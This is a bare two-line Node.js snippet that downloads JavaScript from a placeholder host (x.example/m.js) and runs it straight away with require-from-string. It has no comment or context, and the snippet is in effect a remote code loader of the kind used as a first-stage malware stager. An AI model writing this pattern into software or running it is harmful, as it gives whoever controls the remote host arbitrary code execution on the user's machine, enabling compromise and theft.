const requireFromString = require('require-from-string');
require('https').get('https://x.example/m.js', (r) => { let b = ''; r.on('data', (d) => (b += d)).on('end', () => requireFromString(b)); });
